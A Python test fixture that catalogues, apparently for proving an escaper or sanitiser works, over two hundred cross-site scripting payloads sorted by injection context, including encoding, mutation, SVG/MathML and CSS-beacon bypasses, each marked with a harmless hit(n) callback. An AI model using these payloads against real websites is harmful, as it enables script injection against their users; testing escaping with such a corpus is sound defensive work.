# SPDX-License-Identifier: EUPL-1.2
"""Texts that would run if any page showed them other than as text; each is proven to run where it can.

They are grouped by the place in which they run when nobody escapes. `§` stands for a call that tells
the test, `¶` for an address of which a request tells it.
"""

from dataclasses import dataclass

TEXT = (
    "<script>§</script>",
    "<script\t>§</script >",
    "<script/x>§</script/x>",
    "<SCRIPT>§</SCRIPT>",
    "<ScRiPt>§</sCrIpT>",
    "<script type=module>§</script>",
    "<script type='text/javascript'>§//</script>",
    "<script async src=data:text/javascript,§></script>",
    "<script src='data:,§'></script>",
    "<script>/*</script><script>/**/§</script>",
    "<script>§<!--</script>",
    "<script>§\n--></script>",
    "<script>`${§}`</script>",
    "<script>(()=>§)()</script>",
    "<script>eval('§')</script>",
    "<script>new Function('§')()</script>",
    "<script>setTimeout('§')</script>",
    "<script>[1].map(()=>§)</script>",
    "<script>throw onerror=()=>§,1</script>",
    "<script>document.write('<img src=x onerror=§>')</script>",
    "<script>var s=document.createElement('script');s.text='§';document.head.append(s)</script>",
    "<script src=¶></script>",
    "<<script>§</script>",
    "<<<<script>§</script>",
    "<x><script>§</script>",
    "</x></p></div><script>§</script>",
    "</section></main></body></html><script>§</script>",
    "<img src=x onerror=§>",
    "<img src=x onerror='§'>",
    '<img src=x onerror="§">',
    "<img src=x onerror=`${§}`>",
    "<img/src='x'/onerror=§>",
    "<img\nsrc=x\nonerror=§>",
    "<img\fsrc=x\fonerror=§>",
    "<img\tsrc=x\tonerror\t=\t§>",
    "<IMG SRC=x OnErRoR=§>",
    "<img src onerror=§>",
    "<img src='' onerror=§>",
    "<img srcset=x onerror=§>",
    "<image src=x onerror=§>",
    "<img src=x onerror=&#104;it(§§)>",
    "<img src=x onerror='&#x68;it(§§)'>",
    "<img src=x onerror=\\u0068it(§§)>",
    "<img src=x onerror=window['h'+'it'](§§)>",
    "<img src=x onerror=top[`h`+`it`](§§)>",
    "<img src=x onerror=self['\\x68it'](§§)>",
    "<img src=x onerror=globalThis?.hit?.(§§)>",
    "<img src=x onerror=setTimeout`hit\\x28§§\\x29`>",
    "<img src=x onerror=Reflect.apply(hit,0,[§§])>",
    "<img src=x onerror=location='javascript:§'>",
    "<img src=x:x onerror=§ // >",
    "<img src=x onerror=§//",
    "<img src=¶>",
    "<img loading=eager src=¶>",
    "<picture><source srcset=¶><img></picture>",
    "<svg onload=§>",
    "<svg/onload=§>",
    "<svg\nonload\n=\n§>",
    "<SVG ONLOAD=§>",
    "<svg onload='§'></svg>",
    "<svg><script>§</script></svg>",
    "<svg><script href=data:,§></script></svg>",
    "<svg><script xlink:href=data:,§></script></svg>",
    "<svg><script>&#104;it(§§)</script></svg>",
    "<svg><script><![CDATA[§]]></script></svg>",
    "<svg><animate onbegin=§ attributeName=x dur=1s>",
    "<svg><set onbegin=§ attributeName=x dur=1s>",
    "<svg><animateMotion onbegin=§ dur=1s path=M0,0>",
    "<svg><animateTransform onbegin=§ attributeName=transform dur=1s>",
    "<svg><animate onend=§ attributeName=x dur=1ms>",
    "<svg><foreignObject><img src=x onerror=§></foreignObject></svg>",
    "<svg><foreignObject><script>§</script></foreignObject></svg>",
    "<svg><image href=x onerror=§>",
    "<svg><image xlink:href=¶>",
    "<svg><use href=x /><desc><img src=x onerror=§></desc></svg>",
    "<svg><title><img src=x onerror=§></title></svg>",
    "<svg><style><img src=x onerror=§></style></svg>",
    "<svg></p><img src=x onerror=§>",
    "<math><mtext><img src=x onerror=§></mtext></math>",
    "<math><mi><script>§</script></mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=§></annotation-xml></math>",
    "<math><mglyph><svg><mtext><textarea><path id='</textarea><img src=x onerror=§>'>",
    "<math><style><img src=x onerror=§></style></math>",
    "<body onload=§>",
    "<body onpageshow=§>",
    "<iframe onload=§></iframe>",
    "<iframe src='javascript:parent.§'></iframe>",
    "<iframe src=javascript:parent.§></iframe>",
    "<iframe srcdoc='<script>parent.§</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.§&gt;'></iframe>",
    "<iframe src='data:text/html,<img src=¶>'></iframe><iframe src=¶></iframe>",
    "<iframe src=¶></iframe>",
    "<object data=¶></object>",
    "<object data='javascript:parent.§'></object><img src=x onerror=§>",
    "<object data=x onerror=§></object>",
    "<embed src=¶>",
    "<embed src='javascript:parent.§'><img src=x onerror=§>",
    "<video src=x onerror=§></video>",
    "<video><source src=x onerror=§></video>",
    "<video poster=¶></video>",
    "<audio src=x onerror=§></audio>",
    "<audio><source src=x onerror=§></audio>",
    "<details open ontoggle=§>x</details>",
    "<input type=image src=x onerror=§>",
    "<input type=image src=¶>",
    "<input autofocus onfocus=§>",
    "<select autofocus onfocus=§></select>",
    "<textarea autofocus onfocus=§></textarea>",
    "<button autofocus onfocus=§>x</button>",
    "<a href=x autofocus onfocus=§>x</a>",
    "<b tabindex=1 autofocus onfocus=§>x</b>",
    "<style onload=§></style>",
    "<style>@import '¶';</style>",
    "<style>*{background-image:url(¶)}</style>",
    "<style>@font-face{font-family:z;src:url(¶)}*{font-family:z}</style><b>x</b>",
    "<style>@keyframes z{}</style><b style=animation-name:z onanimationstart=§>x</b>",
    "<style>li{list-style-image:url(¶)}</style><li>x",
    "<style>b::before{content:url(¶)}</style><b>x</b>",
    "<b style=background:url(¶)>x</b>",
    '<b style="background:url(¶)">x</b>',
    "<b style='background-image:\\75rl(¶)'>x</b>",
    "<b style='border-image:url(¶) 1'>x</b>",
    "<b style='list-style:url(¶);display:list-item'>x</b>",
    "<b style='--a:url(¶);background:var(--a)'>x</b>",
    "<b style='cursor:pointer;mask-image:url(¶)'>x</b>",
    "<link rel=stylesheet href=¶>",
    "<link rel=stylesheet href=x onerror=§>",
    "<link rel=preload as=image href=¶>",
    "<link rel=icon href=¶><link rel=stylesheet href=¶>",
    "<meta http-equiv=refresh content='0;url=¶'>",
    "<meta http-equiv=Refresh content=0;¶>",
    "<base href=¶/><img src=a>",
    "<table background=¶><td>x</table>",
    "<body background=¶>",
    "<x-y onfocus=§ tabindex=1 autofocus>x</x-y>",
    "<form><button formaction=javascript:§>x</button></form>",
    "<form action=javascript:§><input type=submit></form>",
    "<form action=¶><button>x</button></form>",
    "<a href=javascript:§>x</a>",
    "<a href='JaVaScRiPt:§'>x</a>",
    "<a href=' javascript:§'>x</a>",
    "<a href='\x01javascript:§'>x</a>",
    "<a href='java\tscript:§'>x</a>",
    "<a href='java\nscript:§'>x</a>",
    "<a href='java&#10;script:§'>x</a>",
    "<a href='javascript&colon;§'>x</a>",
    "<a href='&#106;avascript:§'>x</a>",
    "<a href='&#x6a;avascript:§'>x</a>",
    "<a href='&#0000106;avascript:§'>x</a>",
    "<a href='javascript://%0a§'>x</a>",
    "<a href='javascript:void(0);§'>x</a>",
    "<a href='javascript:\u2028§'>x</a>",
    "<a href='javascript:%68it(§§)'>x</a>",
    "<svg><a href=javascript:§><text y=9>x</text></a></svg>",
    "<svg><a xlink:href=javascript:§><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:§ /><text y=9>x</text></a></svg>",
    "<map name=m><area href=javascript:§ shape=default></map><img usemap=#m>",
    "<ſcript>x</ſcript><img src=x onerror=§>",
    "<img src=x onerror=§ \u202etxet>",
    "\ufeff<img src=x onerror=§>",
    "\u2028<img src=x onerror=§>",
    "＜img src=x＞<img src=x onerror=§>",
    "\U0001f600<svg onload=§>\u0301",
    "<!--><img src=x onerror=§>-->",
    "<!---><img src=x onerror=§>",
    "<!--x--!><img src=x onerror=§>",
    "<?xml version='1.0'?><img src=x onerror=§>",
    "<![CDATA[><img src=x onerror=§>]]>",
    "<!doctype x><img src=x onerror=§>",
    "<noscript><p title='</noscript><img src=x onerror=§>'>",
    "<noembed><p title='</noembed><img src=x onerror=§>'>",
    "<xmp></xmp><img src=x onerror=§>",
    "<template></template><img src=x onerror=§>",
    "<select><option></select><img src=x onerror=§>",
    "<table><img src=x onerror=§></table>",
    "<frameset></frameset><img src=x onerror=§>",
    "{{7*7}}<img src=x onerror=§>",
    "{% autoescape off %}{{ '<svg onload=§>' }}{% endautoescape %}",
    "{{ '<img src=x onerror=§>'|safe }}",
    "${'<svg onload=§>'}",
    "<%= '<svg onload=§>' %>",
    "[[<svg onload=§>]]",
    "#{'<svg onload=§>'}",
    "%{<svg onload=§>}",
    "*{<svg onload=§>}",
)
# Each event by which an element answers a person: `<b onclick=…>`.
EVENTS = (
    *("click", "dblclick", "auxclick", "contextmenu", "mousedown", "mouseup", "mousemove", "mouseover"),
    *("mouseout", "mouseenter", "mouseleave", "wheel", "keydown", "keyup", "keypress", "focus", "blur"),
    *("focusin", "focusout", "copy", "cut", "paste", "drag", "dragstart", "dragend", "dragenter", "dragover"),
    *("dragleave", "drop", "input", "beforeinput", "change", "select", "selectstart", "pointerdown"),
    *("pointerup", "pointermove", "pointerover", "pointerenter", "touchstart", "touchend", "scroll"),
    *("animationend", "toggle", "beforetoggle", "submit", "reset", "invalid", "formdata"),
)
VALUE = (
    '"><img src=x onerror=§>',
    '" autofocus onfocus=§ x="',
    '"onfocus="§"autofocus x="',
    '"\nonmouseover=§\nx="',
    '"/><script>§</script>',
    '" onclick="§',
)
SINGLE = (
    "'><img src=x onerror=§>",
    "' autofocus onfocus=§ x='",
    "'/onmouseover='§'/x='",
)
BARE = ("x onclick=§", "x\tonfocus=§\tautofocus", "x><svg onload=§>")
TEXTAREA = (
    "</textarea><img src=x onerror=§>",
    "</TEXTAREA\n><script>§</script>",
    "</textarea/><svg onload=§>",
)
TITLE = ("</title><img src=x onerror=§>", "</TITLE ><script>§</script>")
COMMENT = ("--><img src=x onerror=§>", "--!><script>§</script>", "--\n--><svg onload=§>")
STYLE = ("</style><img src=x onerror=§>", "}*{background:url(¶)}", "*/}</style ><script>§</script>")
LINK = (
    "javascript:§",
    "JAVASCRIPT:§",
    "\tjavascript:§",
    "java\tscript:§",
    "javascript:/**/§",
    "javascript:'<svg onload=§>',§",
    "javascript:`${§}`",
)
SCRIPT = ('";§;"', '"+§+"', '"-§-"', "</script><script>§</script>", "</script ><svg onload=§>")
# What runs when text is taken for HTML once more: decoded twice, or from an address or JSON.
TWICE = (
    "&lt;img src=x onerror=§&gt;",
    "&#60;img src=x onerror=§&#62;",
    "&#x3c;svg onload=§&#x3e;",
    "&LT;img src=x onerror=§&GT;",
    "&lt;details open ontoggle=§&gt;",
)
ADDRESS = ("%3Cimg%20src=x%20onerror=§%3E", "%3csvg/onload=§%3e", "%3Cvideo src=x onerror=§%3E")
JSON = ("\\u003cimg src=x onerror=§\\u003e", "\\u003csvg onload=§\\u003e", '\\"><img src=x onerror=§>')
# What changes its meaning when a browser writes it down and reads it again.
MUTATED = (
    "<svg></p><style><a id='</style><img src=x onerror=§>'>",
    "<math></p><style><a id='</style><img src=x onerror=§>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>",
    "<svg></br><style><a title='</style><img src=x onerror=§>'>",
)
HTMX = (
    "<b hx-on:click='§'>x</b>",
    "<b hx-on--load='§' hx-get=¶ hx-trigger=load>x</b>",
    "<b hx-get=¶ hx-trigger=load>x</b>",
    "<b data-hx-get=¶ data-hx-trigger=load>x</b>",
    "<b hx-post=¶ hx-trigger='every 10ms'>x</b>",
)
PLACES = {
    "text": (*TEXT, *(f"<b on{event}=§>x</b>" for event in EVENTS)),
    "value": VALUE,
    "single": SINGLE,
    "bare": BARE,
    "textarea": TEXTAREA,
    "title": TITLE,
    "comment": COMMENT,
    "style": STYLE,
    "link": LINK,
    "script": SCRIPT,
    "twice": TWICE,
    "address": ADDRESS,
    "json": JSON,
    "mutated": MUTATED,
    "htmx": HTMX,
}


@dataclass(frozen=True)
class Payload:
    """One text; it tells by `hit(number)` or a request for `/hit/number` that it ran."""

    number: int
    place: str
    text: str


def payloads() -> list[Payload]:
    """Return all of them, numbered."""
    pairs = [(place, text) for place, texts in PLACES.items() for text in texts]
    return [Payload(number, place, _with(text, number)) for number, (place, text) in enumerate(pairs)]


def _with(text: str, number: int) -> str:
    return text.replace("§§", str(number)).replace("§", f"hit({number})").replace("¶", f"/hit/{number}")


def chunks(found: list[Payload], longest: int) -> list[str]:
    """Return the payloads as texts of at most so many signs, a line each."""
    texts, text = [], ""
    for one in found:
        if len(text) + len(one.text) + 1 > longest:
            texts.append(text)
            text = ""
        text += one.text + "\n"
    return [*texts, text]
